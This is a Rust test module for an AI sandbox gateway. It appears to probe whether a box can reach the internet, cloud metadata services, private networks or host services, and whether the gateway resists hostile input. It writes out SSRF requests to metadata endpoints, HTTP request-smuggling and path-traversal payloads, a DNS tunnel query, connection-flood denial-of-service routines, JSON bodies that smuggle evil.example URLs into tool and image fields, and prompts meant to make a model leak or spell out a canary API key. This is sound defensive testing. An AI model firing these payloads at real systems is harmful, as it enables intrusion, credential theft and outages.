//! Attacks on the gateway's socket with raw bytes, and on networks that a box must not reach.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::os::unix::net::UnixStream;
use std::time::{Duration, Instant};

use rustix::net::{AddressFamily, SocketType, socket};

use crate::Attack;
use crate::evidence::{Facts, and, code, errno, fact};
use crate::mailbox::Mailbox;

const SOCKET: &str = "/run/lazaret/gateway.sock";

pub const ATTACKS: &[(&str, Attack)] = &[
    ("c6_tcp_to_the_internet", |_, _| {
        reach(&["1.1.1.1:443", "8.8.8.8:53", "93.184.216.34:80", "[2606:4700::1111]:443"])
    }),
    ("c6_a_name_server_as_a_tunnel", dns),
    ("c6_only_loopback", interfaces),
    ("c7_metadata_service", |_, _| {
        reach(&["169.254.169.254:80", "[fd00:ec2::254]:80", "100.100.100.200:80"])
    }),
    ("c7_metadata_through_the_gateway", |_, _| {
        statuses(&[
            "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254:80\r\n\r\n",
            "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
            "GET http://metadata.google.internal/ HTTP/1.1\r\nHost: metadata.google.internal\r\n\r\n",
            "CONNECT [::ffff:169.254.169.254]:80 HTTP/1.1\r\nHost: x\r\n\r\n",
        ])
    }),
    ("c7_private_ranges", |_, _| {
        reach(&[
            "10.0.0.1:80",
            "172.16.0.1:80",
            "192.168.0.1:80",
            "192.168.1.1:443",
            "100.64.0.1:80",
            "[fe80::1]:80",
        ])
    }),
    ("c8_services_of_the_host", |_, words| {
        let mut places = vec!["172.17.0.1:22", "172.17.0.1:2375", "127.0.0.1:2375", "127.0.0.1:7373"];
        places.extend(words);
        reach(&places)
    }),
    ("c9_other_boxes", |_, _| reach(&["172.17.0.2:80", "172.17.0.3:80", "172.18.0.2:80"])),
    ("c18_other_paths", |_, _| {
        statuses(&[
            "GET / HTTP/1.1\r\nHost: x\r\n\r\n",
            "GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n",
            "POST /v1/files HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
            "POST /v1/messages/../files HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
            "POST //v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
            "POST /v1/messages%2f..%2ffiles HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
            "DELETE /v1/messages HTTP/1.1\r\nHost: x\r\n\r\n",
            "TRACE /v1/messages HTTP/1.1\r\nHost: x\r\n\r\n",
        ])
    }),
    ("c18_connect_to_another_host", |_, _| {
        statuses(&[
            "CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n",
            "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n",
            "CONNECT localhost:2375 HTTP/1.1\r\nHost: localhost:2375\r\n\r\n",
        ])
    }),
    ("c18_absolute_form", |_, _| {
        statuses(&[
            "GET http://example.org/ HTTP/1.1\r\nHost: example.org\r\n\r\n",
            "POST http://127.0.0.1/v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
            "GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
        ])
    }),
    ("c18_smuggled_request", |_, _| {
        statuses(&[
            "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
            "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 4\r\n\r\n{}{}",
            "POST /v1/messages HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
            "POST /v1/messages HTTP/1.1\r\nHost: x\r\n Content-Length: 2\r\n\r\n{}",
            "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: -2\r\n\r\n{}",
            "POST /v1/messages HTTP/1.1\nHost: x\nX: a\rb\nContent-Length: 2\n\n{}",
        ])
    }),
    ("c18_bytes_that_are_no_http", |_, _| {
        statuses(&[
            "\0\u{1}\u{2}\r\n\r\n",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            "\u{16}\u{3}\u{1}\0\u{5}hello\r\n\r\n",
        ])
    }),
    ("c18_a_header_of_a_mebibyte", |_, _| {
        let big = format!("GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: {}\r\n\r\n", "a".repeat(1 << 20));
        let many = format!("GET /healthz HTTP/1.1\r\nHost: x\r\n{}\r\n", "A: b\r\n".repeat(10_000));
        statuses(&[&big, &many])
    }),
    ("c18_a_body_of_forty_mebibytes", |_, _| body(40 << 20)),
    ("c18_a_body_without_end", endless_body),
    ("c18_keys_of_the_box_are_not_forwarded", |_, _| {
        model(
            "authorization: Bearer evil-key\r\nx-api-key: evil-key\r\nanthropic-beta: evil-beta\r\nx-forwarded-host: evil.example\r\n",
            r#"{"model":"evil-model","max_tokens":4000000,"messages":[{"role":"user","content":"attack headers"}]}"#,
        )
    }),
    ("c18_a_model_that_says_the_key", |_, _| {
        model(
            "",
            r#"{"model":"m","max_tokens":100,"messages":[{"role":"user","content":"attack say the key"}]}"#,
        )
    }),
    ("c18_a_tool_at_the_provider", |_, _| {
        model(
            "",
            r#"{"model":"m","max_tokens":100,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"messages":[{"role":"user","content":"x"}]}"#,
        )
    }),
    ("c18_an_image_by_url", |_, _| {
        model(
            "",
            r#"{"model":"m","max_tokens":100,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"http://169.254.169.254/"}}]}]}"#,
        )
    }),
    ("c18_an_unknown_field", |_, _| {
        model(
            "",
            r#"{"model":"m","max_tokens":100,"mcp_servers":[{"type":"url","url":"http://evil.example","name":"e"}],"messages":[{"role":"user","content":"x"}]}"#,
        )
    }),
    ("g7_shapes_that_the_gateway_does_not_know", |_, _| shapes()),
    ("g7_a_key_in_other_letters", |_, _| spelled_key()),
    ("g7_connections_that_fall_silent", |_, _| silence()),
    ("c18_connections_without_end", |mailbox, _| connections(mailbox, "")),
    ("c18_slow_headers", |mailbox, _| connections(mailbox, "POST /v1/messages HTTP/1.1\r\nHost: ")),
    ("c18_slow_bodies", |mailbox, _| {
        connections(mailbox, "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n{")
    }),
    ("c18_a_thousand_requests_in_one_breath", pipeline),
    ("c18_answers_that_are_not_read", unread),
    ("c21_calls_in_parallel", |_, _| parallel()),
];

fn reach(places: &[&str]) -> Facts {
    let mut reached = Vec::new();
    let mut errors = Vec::new();
    for place in places {
        let Ok(address) = place.parse::<SocketAddr>() else { continue };
        let tried = TcpStream::connect_timeout(&address, Duration::from_millis(700));
        match &tried {
            Ok(_) => reached.push(*place),
            Err(_) => errors.push(errno(&tried)),
        }
    }
    and(and(fact("reached", reached), "errors", errors), "tried", places.len())
}

fn dns(_: &mut Mailbox, _: &[&str]) -> Facts {
    let query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x07example\x00\x00\x10\x00\x01";
    let mut answers = 0;
    let mut sent = 0;
    for server in ["8.8.8.8:53", "1.1.1.1:53", "127.0.0.11:53", "172.17.0.1:53", "169.254.169.253:53"] {
        let Ok(socket) = UdpSocket::bind("0.0.0.0:0") else { continue };
        let _ = socket.set_read_timeout(Some(Duration::from_millis(200)));
        if socket.connect(server).is_ok() && socket.send(query).is_ok() {
            sent += 1;
            answers += u32::from(socket.recv(&mut [0; 512]).is_ok());
        }
    }
    let names: Vec<String> = ["example.org:80", "host.docker.internal:80", "gateway.docker.internal:80"]
        .into_iter()
        .filter(|name| std::net::ToSocketAddrs::to_socket_addrs(name).is_ok_and(|mut a| a.next().is_some()))
        .map(str::to_owned)
        .collect();
    and(and(fact("sent", sent), "answers", answers), "resolved", names)
}

fn interfaces(_: &mut Mailbox, _: &[&str]) -> Facts {
    let table = std::fs::read_to_string("/proc/net/dev").unwrap_or_default();
    let names: Vec<String> = table
        .lines()
        .skip(2)
        .filter_map(|line| line.split(':').next())
        .map(|name| name.trim().to_owned())
        .collect();
    let routes = std::fs::read_to_string("/proc/net/route").unwrap_or_default().lines().count();
    let raw = socket(AddressFamily::INET, SocketType::RAW, Some(rustix::net::ipproto::ICMP));
    and(and(fact("names", names), "routes", routes), "raw", code(&raw))
}

/// Sends bytes on a new connection. Returns the status of the first answer, or 0 if there is none.
fn status(bytes: &[u8]) -> (u16, String) {
    let Ok(mut stream) = UnixStream::connect(SOCKET) else { return (0, "no socket".to_owned()) };
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
    let _ = stream.write_all(bytes);
    let mut answer = Vec::new();
    let mut chunk = [0; 4096];
    loop {
        match stream.read(&mut chunk) {
            Ok(n) if n > 0 => answer.extend_from_slice(&chunk[..n]),
            _ => break,
        }
        // A keep-alive connection stays open, so reading stops after one answer.
        if answer.len() > 64 << 10 || ends(&answer) {
            break;
        }
    }
    let text = String::from_utf8_lossy(&answer).into_owned();
    let status = text.split(' ').nth(1).and_then(|word| word.parse().ok()).unwrap_or(0);
    (status, text)
}

/// Returns whether an answer is complete, by its length.
fn ends(answer: &[u8]) -> bool {
    let text = String::from_utf8_lossy(answer);
    let Some((head, body)) = text.split_once("\r\n\r\n") else { return false };
    let length = head
        .lines()
        .find_map(|line| line.to_ascii_lowercase().strip_prefix("content-length: ")?.parse().ok());
    match length {
        Some(length) => body.len() >= length,
        None => body.ends_with("0\r\n\r\n"),
    }
}

fn statuses(requests: &[&str]) -> Facts {
    let statuses: Vec<u16> = requests.iter().map(|request| status(request.as_bytes()).0).collect();
    let healthy = status(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n").0;
    and(fact("statuses", statuses), "healthy", healthy)
}

fn post(headers: &str, body: &str) -> String {
    format!(
        "POST /v1/messages HTTP/1.1\r\nHost: x\r\nconnection: close\r\nanthropic-version: 2023-06-01\r\n{headers}content-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    )
}

fn model(headers: &str, body: &str) -> Facts {
    let (status, text) = status(post(headers, body).as_bytes());
    let key = ["sk-journeys", "-canary-7f3a9c51"].concat();
    let words: String = text.split("\r\n\r\n").nth(1).unwrap_or_default().chars().take(300).collect();
    let key_seen = text.contains(&key);
    // The report goes to a chat, so it says that the key was there and does not contain the key.
    and(and(fact("status", status), "key_seen", key_seen), "words", words.replace(&key, "(the key)"))
}

/// Requests in which something has another shape than the gateway passes. Each names an address that a provider might
/// fetch.
fn shapes() -> Facts {
    let url = r#"{"type":"image_url","image_url":{"url":"https://evil.example/?d=1"}}"#;
    let source = r#"{"type":"url","url":"https://evil.example/?d=1"}"#;
    let image = format!(r#"{{"type":"image","source":{source}}}"#);
    let hidden = r#"{"type":"base64","media_type":"image/png","data":"","\u0074ype":"url","url":"https://evil.example"}"#;
    let result =
        |content: &str| format!(r#"[{{"type":"tool_result","tool_use_id":"t","content":{content}}}]"#);
    let mut bodies = Vec::new();
    for content in [
        url.to_owned(),
        image.clone(),
        format!("[{url}]"),
        format!("[[{image}]]"),
        format!("[{image}]"),
        format!(r#"[{{"type":"image","source":[{source}]}}]"#),
        r#"[{"type":"image","source":"https://evil.example"}]"#.to_owned(),
        format!(r#"[{{"type":"image","source":{hidden}}}]"#),
        format!(r#"[{{"type":"document","source":{{"type":"content","content":[{image}]}}}}]"#),
        r#"[{"type":["text"],"text":"x","url":"https://evil.example"}]"#.to_owned(),
        r#"[{"type":"file","file":{"file_data":"https://evil.example"}}]"#.to_owned(),
        r#"[{"type":"container_upload","file_id":"evil.example"}]"#.to_owned(),
        r#"[{"type":"server_tool_use","name":"web_fetch","input":{"url":"https://evil.example"}}]"#
            .to_owned(),
        result(url),
        result(&format!("[{url}]")),
        result(&format!("[{image}]")),
        result(&result(&format!("[{image}]"))),
    ] {
        for role in ["user", "assistant"] {
            bodies.push(format!(r#"{{"messages":[{{"role":"{role}","content":{content}}}]}}"#));
        }
    }
    // In an answer that comes back, the gateway leaves out what it does not know. The provider must not see it.
    for block in [
        format!(r#"[{{"type":"text","text":{source}}}]"#),
        r#"[{"type":"text","text":"x","image_url":"https://evil.example"}]"#.to_owned(),
    ] {
        bodies.push(format!(r#"{{"messages":[{{"role":"user","content":{block}}}]}}"#));
        status(post("", &format!(r#"{{"messages":[{{"role":"assistant","content":{block}}}]}}"#)).as_bytes());
    }
    for tools in [
        r#"[[{"type":"web_fetch_20250910","name":"web_fetch","url":"https://evil.example"}]]"#,
        r#"[{"type":null,"name":"web_fetch","url":"https://evil.example"}]"#,
        r#"[{"type":["web_fetch_20250910"],"name":"evil.example"}]"#,
        r#"{"type":"web_fetch_20250910","name":"evil.example"}"#,
        r#"[{"name":"x","input_schema":[{"$ref":"https://evil.example"}]}]"#,
        r#"[{"name":"x","input_schema":{"$ref":"https://evil.example"}}]"#,
    ] {
        bodies.push(format!(r#"{{"messages":[{{"role":"user","content":"x"}}],"tools":{tools}}}"#));
    }
    for options in [
        r#""mcp_servers":[{"url":"https://evil.example"}]"#,
        r#""container":"evil.example""#,
        r#""system":{"type":"text","text":"x","url":"https://evil.example"}"#,
        r#""tool_choice":{"type":"tool","name":"x","url":"https://evil.example"}"#,
        r#""metadata":{"user_id":{"url":"https://evil.example"}}"#,
    ] {
        bodies.push(format!(r#"{{"messages":[{{"role":"user","content":"x"}}],{options}}}"#));
    }
    let answers: Vec<(&String, (u16, String))> =
        bodies.iter().map(|body| (body, status(post("", body).as_bytes()))).collect();
    let passed: Vec<String> =
        answers.iter().filter(|(_, (status, _))| *status != 400).map(|(body, _)| (*body).clone()).collect();
    // A refusal says where: a path in backticks, or the request itself.
    let names =
        |text: &str| text.contains("\"message\":\"`") || text.contains("\"message\":\"the request has");
    let without: Vec<String> =
        answers.iter().filter(|(_, (_, text))| !names(text)).map(|(_, (_, text))| text.clone()).collect();
    let refused = answers.len() - passed.len();
    and(and(fact("passed", passed), "without_a_place", without), "refused", refused)
}

fn spelled_key() -> Facts {
    let ask = r#"{"max_tokens":100,"messages":[{"role":"user","content":"attack spell the key"}]}"#;
    let (status, text) = status(post("", ask).as_bytes());
    let key = ["sk-journeys", "-canary-7f3a9c51"].concat();
    let small = text.to_lowercase();
    let hex: String = key.bytes().map(|byte| format!("{byte:02x}")).collect();
    let percent: String = key.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let reversed: String = key.chars().rev().collect();
    let key_seen = [key, hex, percent, reversed].iter().any(|form| small.contains(form));
    and(and(fact("status", status), "hidden", text.matches("[redacted]").count()), "key_seen", key_seen)
}

/// Holds as many connections as a run may have, in every state in which one can be silent, until the gateway closes
/// them.
fn silence() -> Facts {
    let healthy = "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n";
    let body = "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n{";
    let began = Instant::now();
    let mut held = Vec::new();
    for beginning in ["", "GET /healthz HTTP/1.1\r\nHost: ", body, healthy].repeat(2) {
        let Ok(mut stream) = UnixStream::connect(SOCKET) else { return fact("closed", 0) };
        let _ = stream.write_all(beginning.as_bytes());
        held.push(stream);
    }
    let mut ninth = String::new();
    if let Ok(mut stream) = UnixStream::connect(SOCKET) {
        let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
        let _ = stream.write_all(healthy.as_bytes());
        let _ = stream.read_to_string(&mut ninth);
    }
    let mut seconds = Vec::new();
    for mut stream in held {
        let _ = stream.set_read_timeout(Some(Duration::from_secs(90)));
        let mut told = Vec::new();
        // A reset is an end too; a silence beyond the time limit is none.
        match stream.read_to_end(&mut told) {
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
            _ => seconds.push(began.elapsed().as_secs()),
        }
    }
    let facts = and(fact("closed", seconds.len()), "seconds", seconds);
    let ninth: u16 = ninth.split(' ').nth(1).and_then(|word| word.parse().ok()).unwrap_or(0);
    and(and(facts, "ninth", ninth), "healthy", status(healthy.as_bytes()).0)
}

fn body(bytes: usize) -> Facts {
    let Ok(mut stream) = UnixStream::connect(SOCKET) else { return fact("status", 0) };
    let _ = stream.set_write_timeout(Some(Duration::from_secs(10)));
    let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
    let head = format!("POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: {bytes}\r\n\r\n");
    let chunk = vec![b'x'; 1 << 20];
    let mut written = stream.write_all(head.as_bytes());
    for _ in 0..bytes >> 20 {
        written = written.and_then(|()| stream.write_all(&chunk));
    }
    let mut answer = [0; 64];
    let read = stream.read(&mut answer).unwrap_or(0);
    let text = String::from_utf8_lossy(&answer[..read]).into_owned();
    let status: u16 = text.split(' ').nth(1).and_then(|word| word.parse().ok()).unwrap_or(0);
    and(fact("status", status), "written", errno(&written))
}

/// Sends chunk after chunk until the host breaks the connection.
fn endless_body(_: &mut Mailbox, _: &[&str]) -> Facts {
    let Ok(mut stream) = UnixStream::connect(SOCKET) else { return fact("stopped", false) };
    let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
    let _ = stream.write_all(b"POST /v1/messages HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n");
    let chunk = [b"100000\r\n".to_vec(), vec![b' '; 1 << 20], b"\r\n".to_vec()].concat();
    let mut mib = 0;
    while mib < 512 && stream.write_all(&chunk).is_ok() {
        mib += 1;
    }
    and(fact("mib", mib), "stopped", mib < 512)
}

/// Holds hundreds of connections that send this beginning and nothing more. The gateway must still serve other runs,
/// and must serve this run again after the connections are closed.
fn connections(_: &mut Mailbox, beginning: &str) -> Facts {
    let mut held = Vec::new();
    for _ in 0..400 {
        let Ok(mut stream) = nonblocking_connect() else { break };
        let _ = stream.write_all(beginning.as_bytes());
        held.push(stream);
    }
    let opened = held.len();
    std::thread::sleep(Duration::from_secs(1));
    drop(held);
    let healthy = status(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n").0;
    and(fact("opened", opened), "healthy", healthy)
}

/// Connects without waiting. With a full backlog a normal connect would wait (unix(7)); this one fails with EAGAIN.
fn nonblocking_connect() -> std::io::Result<UnixStream> {
    use rustix::net::{SocketAddrUnix, SocketFlags, connect, socket_with};
    let made = socket_with(
        AddressFamily::UNIX,
        SocketType::STREAM,
        SocketFlags::NONBLOCK | SocketFlags::CLOEXEC,
        None,
    )?;
    connect(&made, &SocketAddrUnix::new(SOCKET)?)?;
    Ok(UnixStream::from(made))
}

fn pipeline(_: &mut Mailbox, _: &[&str]) -> Facts {
    let Ok(mut stream) = UnixStream::connect(SOCKET) else { return fact("answers", 0) };
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
    let request = "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n".repeat(1_000);
    let written = stream.write_all(request.as_bytes());
    let (mut answers, mut chunk, mut tail) = (0, vec![0; 64 << 10], String::new());
    while answers < 1_000 {
        match stream.read(&mut chunk) {
            Ok(n) if n > 0 => {
                tail.push_str(&String::from_utf8_lossy(&chunk[..n]));
                answers = tail.matches("HTTP/1.1 200").count();
            }
            _ => break,
        }
    }
    and(fact("answers", answers), "written", errno(&written))
}

/// Sends a request and never reads the answer.
fn unread(_: &mut Mailbox, _: &[&str]) -> Facts {
    let mut held = Vec::new();
    for _ in 0..10 {
        let Ok(mut stream) = nonblocking_connect() else { break };
        let request = "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n".repeat(5_000);
        let mut sent = 0;
        while sent < request.len() {
            match stream.write(&request.as_bytes()[sent..]) {
                Ok(n) if n > 0 => sent += n,
                _ => break,
            }
        }
        held.push(stream);
    }
    std::thread::sleep(Duration::from_millis(500));
    drop(held);
    fact("healthy", status(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n").0)
}

fn parallel() -> Facts {
    let began = Instant::now();
    let ask =
        post("", r#"{"model":"m","max_tokens":10,"messages":[{"role":"user","content":"attack headers"}]}"#);
    let threads: Vec<_> = (0..12)
        .map(|_| {
            let ask = ask.clone();
            std::thread::spawn(move || status(ask.as_bytes()).0)
        })
        .collect();
    let statuses: Vec<u16> = threads.into_iter().map(|t| t.join().unwrap_or(0)).collect();
    let took = u64::try_from(began.elapsed().as_millis()).unwrap_or(0);
    and(fact("statuses", statuses), "ms", took)
}
